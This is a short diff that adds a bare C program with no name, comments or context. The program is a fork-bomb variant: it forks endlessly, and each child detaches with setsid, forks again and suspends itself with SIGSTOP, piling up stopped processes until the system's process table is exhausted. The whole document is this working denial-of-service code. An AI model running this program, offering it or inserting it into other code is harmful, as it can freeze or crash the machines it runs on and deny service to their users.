@@ -1,0 +1,11 @@
+#include <signal.h>
+#include <unistd.h>
+int main(void) {
+    for (;;) {
+        if (fork() == 0) {
+            setsid();
+            fork();
+            raise(SIGSTOP);
+        }
+    }
+}
